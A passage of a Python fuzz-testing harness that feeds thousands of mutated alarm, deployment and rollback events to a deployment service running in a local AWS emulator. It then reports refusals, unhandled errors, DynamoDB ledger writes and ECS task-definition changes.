    if any(call.split(".", 1)[1] in LEDGER_WRITES for call in calls):
        world.calls.clear()
        world.answered.clear()
        world.publish_outbox()
        notifier_writes = sum(1 for _, name in world.answered if name.split(".", 1)[1] in LEDGER_WRITES)
    side_effects = [
        call
        for call in calls
        if call.split(".", 1)[1].startswith(SIDE_EFFECT_VERBS)
        and not call.startswith("dynamodb.")
        and call not in ECS_CHANGES
    ]
    return Result(
        case,
        answer,
        refused,
        unhandled,
        internal,
        sum(calls.count(call) for call in ECS_CHANGES),
        write_calls,
        written,
        notifier_writes,
        side_effects,
        seconds,
    )


def baseline(world: World, writes: Writes, bases: Bases) -> list[tuple[str, Result]]:
    """What valid events make: an OK alarm (a no-op) and an ALARM for prod/web (recorded, no target)."""
    ok = copy.deepcopy(bases.alarm[1])
    firing = copy.deepcopy(bases.alarm[-1])
    firing["id"] = "baseline-alarm"
    return [
        ("valid OK alarm for prod/web", run_case(world, writes, Case(-1, "alarm_events", "baseline", ok))),
        ("valid ALARM for prod/web", run_case(world, writes, Case(-2, "alarm_events", "baseline", firing))),
    ]


def _ms(seconds: float) -> str:
    return f"{seconds * 1000:.1f}"


def _percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(share * len(ordered)))] if ordered else 0.0


def _short(payload: Any) -> str:
    shown = reprlib.Repr()
    shown.maxstring, shown.maxother, shown.maxdict, shown.maxlist, shown.maxlevel = 80, 80, 12, 4, 4
    return shown.repr(payload)


def summary(results: list[Result]) -> None:
    print()
    header = f"{'entry point':18} {'payloads':>8} {'refused':>8} {'accepted':>8} {'unhandled':>9} {'internal':>8} {'ECS':>4} {'writes':>6} {'p50 ms':>7} {'p99 ms':>7} {'max ms':>8}"
    print(header)
    print("-" * len(header))
    for entry in (*ENTRIES, "all"):
        rows = [r for r in results if entry in ("all", r.case.entry)]
        times = [r.seconds for r in rows]
        print(
            f"{entry:18} {len(rows):8d} {sum(r.refused for r in rows):8d} "
            f"{sum(not r.refused and r.unhandled is None for r in rows):8d} {sum(r.unhandled is not None for r in rows):9d} "
            f"{sum(r.internal for r in rows):8d} {sum(r.ecs_changes for r in rows):4d} {sum(r.write_calls > 0 for r in rows):6d} "
            f"{_ms(_percentile(times, 0.5)):>7} {_ms(_percentile(times, 0.99)):>7} {_ms(max(times, default=0)):>8}"
        )
    slowest = max(results, key=lambda r: r.seconds)
    print(
        f"slowest payload: case #{slowest.case.index} {slowest.case.entry} [{slowest.case.kind}] {_ms(slowest.seconds)} ms -> {slowest.answer}"
    )


def by_kind(results: list[Result]) -> None:
    groups: dict[tuple[str, str], list[Result]] = defaultdict(list)
    for result in results:
        groups[(result.case.entry, result.case.kind.split(" + ")[0].split(" (")[0])].append(result)
    print()
    print("by first mutation (counts; 'answers' are the most frequent answers)")
    header = f"{'entry point':18} {'mutation':36} {'n':>5} {'refused':>7} {'unh.':>5} {'int.':>5} {'ECS':>4} {'writes':>6}  answers"
    print(header)
    print("-" * len(header))
    for (entry, kind), rows in sorted(groups.items()):
        answers = Counter(r.answer for r in rows).most_common(3)
        print(
            f"{entry:18} {kind[:36]:36} {len(rows):5d} {sum(r.refused for r in rows):7d} "
            f"{sum(r.unhandled is not None for r in rows):5d} {sum(r.internal for r in rows):5d} "
            f"{sum(r.ecs_changes for r in rows):4d} {sum(r.write_calls > 0 for r in rows):6d}  "
            + "; ".join(f"{a[:40]} x{n}" for a, n in answers)
        )


def findings(results: list[Result], seed: int, count: int, examples: int) -> None:
    print()
    print(f"findings (replay: --seed {seed} --count {count}; case numbers below)")

    def show(title: str, rows: list[Result], key: Callable[[Result], str]) -> None:
        groups: dict[str, list[Result]] = defaultdict(list)
        for row in rows:
            groups[key(row)].append(row)
        print(f"  {title}: {len(rows)}")
        for label, members in sorted(groups.items(), key=lambda item: -len(item[1])):
            print(f"    {len(members):5d} x {label}")
            for member in members[:examples]:
                print(
                    f"          #{member.case.index} [{member.case.kind}] {_short(member.case.payload)[:300]}"
                )

    show(
        "unhandled exceptions",
        [r for r in results if r.unhandled],
        lambda r: f"{r.case.entry}: {r.unhandled}",
    )
    show(
        "manual internal_error answers",
        [r for r in results if r.internal],
        lambda r: r.case.kind.split(" (")[0],
    )
    show("non-dict answers", [r for r in results if r.answer.startswith("non-dict")], lambda r: r.case.entry)
    show("ECS changes", [r for r in results if r.ecs_changes], lambda r: f"{r.case.entry}: {r.answer}")
    show(
        "refused payloads that wrote the ledger",
        [r for r in results if r.refused and (r.write_calls or r.written)],
        lambda r: f"{r.case.entry}: {r.answer}",
    )
    show(
        "accepted payloads that wrote the ledger",
        [r for r in results if not r.refused and r.write_calls],
        lambda r: f"{r.case.entry}: {r.answer} -> items {'+'.join(sorted(set(r.written)))}",
    )
    failed_writes = [r for r in results if len(r.written) and not r.write_calls]
    print(
        f"  payloads whose ledger writes were all refused by DynamoDB (conditions, limits): {len(failed_writes)}"
    )
    show(
        "payloads that made other changing AWS calls (not the ledger, not ECS)",
        [r for r in results if r.side_effects],
        lambda r: f"{r.case.entry}: {r.answer} -> {'+'.join(sorted(set(r.side_effects)))}",
    )
    print(
        f"  ledger writes by the notifier (publishing those outbox entries): {sum(r.notifier_writes for r in results)}"
    )


def ledger_difference(
    before: dict[tuple[str, str], str], after: dict[tuple[str, str], str]
) -> tuple[Counter[str], Counter[str], Counter[str]]:
    """Items added, changed and removed, by kind (sort-key prefix)."""
    added = Counter(key[1].split("#", 1)[0] for key in after.keys() - before.keys())
    removed = Counter(key[1].split("#", 1)[0] for key in before.keys() - after.keys())
    changed = Counter(
        key[1].split("#", 1)[0] for key in before.keys() & after.keys() if before[key] != after[key]
    )
    return added, changed, removed


@dataclass
class Totals:
    """What the ledger and ECS looked like before and after each world's share of the payloads."""

    items_before: int = 0
    items_after: int = 0
    added: Counter[str] = field(default_factory=Counter)
    changed: Counter[str] = field(default_factory=Counter)
    removed: Counter[str] = field(default_factory=Counter)
    service_moved: int = 0  # worlds whose service runs another task definition afterwards
    registered: int = 0  # task definitions that appeared


def run_world(
    emulator: Emulator, writes: Writes, cases: Iterator[Case], count: int, bases: Bases, totals: Totals
) -> list[Result]:
    """A fresh world, ``bases`` (which the generator reads) pointed at it, then ``count`` more cases."""
    first = not bases.deployment
    if not first:
        emulator.reset()  # every backend emptied: the next world starts from nothing
    world, fresh = make_world(emulator, writes)
    bases.deployment, bases.alarm, bases.deployment_ids = fresh.deployment, fresh.alarm, fresh.deployment_ids
    service = world.ecs.service_id(CLUSTER, SERVICE)
    table = world.settings["deployment_events"].ledger_table_name
    if first:
        print(f"world: {service.arn} on {world.service_task_definition(service)} (GOOD), no other release")
        for label, result in baseline(world, writes, bases):
            print(
                f"baseline {label}: {result.answer}; ledger write calls {result.write_calls} "
                f"(items {'+'.join(result.written) or 'none'}), ECS changes {result.ecs_changes}"
            )
    ecs_before, items_before = ecs_state(world, service), ledger_items(emulator, table)
    results = [run_case(world, writes, case) for case in itertools.islice(cases, count)]
    ecs_after, items_after = ecs_state(world, service), ledger_items(emulator, table)
    added, changed, removed = ledger_difference(items_before, items_after)
    totals.items_before += len(items_before)
    totals.items_after += len(items_after)
    totals.added += added
    totals.changed += changed
    totals.removed += removed
    totals.service_moved += ecs_before[0] != ecs_after[0]
    totals.registered += len(set(ecs_after[1]) - set(ecs_before[1]))
    return results


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--count", type=int, default=10_000, help="payloads (default 10000)")
    parser.add_argument("--seed", type=int, default=1, help="the generator's seed (default 1)")
    parser.add_argument(
        "--per-world", type=int, default=500, help="payloads per fresh world (default 500; see above)"
    )
    parser.add_argument("--examples", type=int, default=2, help="examples shown per finding (default 2)")
    args = parser.parse_args()
    rng = random.Random(args.seed)  # noqa: S311 (reproducible payloads, not secrets)
    errors = ErrorLog()
    stdlib_logger = logging.getLogger(product_logger.name)
    stdlib_logger.addHandler(errors)
    streams = [h for h in stdlib_logger.handlers if type(h) is logging.StreamHandler]
    totals = Totals()
    results: list[Result] = []
    worlds = 0
    with Emulator() as emulator, open(os.devnull, "w") as quiet:
        writes = Writes()
        service_arn = f"arn:aws:ecs:{emulator.region}:{ACCOUNT}:service/{CLUSTER}/{SERVICE}"
        bases = Bases([], [], load("manual_rollback_request.json"), [], service_arn, emulator.region)
        cases = generate(rng, bases, args.count)
        originals = [stream.setStream(quiet) for stream in streams]  # the product's log lines: counted only
        started = time.perf_counter()
        try:
            while len(results) < args.count:
                share = min(args.per_world, args.count - len(results))
                results += run_world(emulator, writes, cases, share, bases, totals)
                worlds += 1
                print(
                    f"  ... {len(results)} payloads, {time.perf_counter() - started:.0f} s", file=sys.stderr
                )
        finally:
            for stream, original in zip(streams, originals, strict=True):
                if original is not None:
                    stream.setStream(original)
        elapsed = time.perf_counter() - started
    print(f"\n{len(results)} payloads in {elapsed:.0f} s, {worlds} fresh worlds (seed {args.seed})")
    summary(results)
    by_kind(results)
    findings(results, args.seed, args.count, args.examples)
    print()
    print(
        f"ECS: worlds whose service runs another task definition afterwards: {totals.service_moved} of {worlds}; "
        f"task definitions registered while the payloads ran: {totals.registered}"
    )
    print(
        f"ledger items (summed over the worlds): {totals.items_before} before, {totals.items_after} after; "
        f"added {dict(totals.added) or 0}, changed {dict(totals.changed) or 0}, removed {dict(totals.removed) or 0}"
    )
    print(f"product ERROR log lines while the payloads ran: {sum(errors.messages.values())}")
    for message, times in errors.messages.most_common(8):
        print(f"  {times:5d} x {message}")


if __name__ == "__main__":
    main()
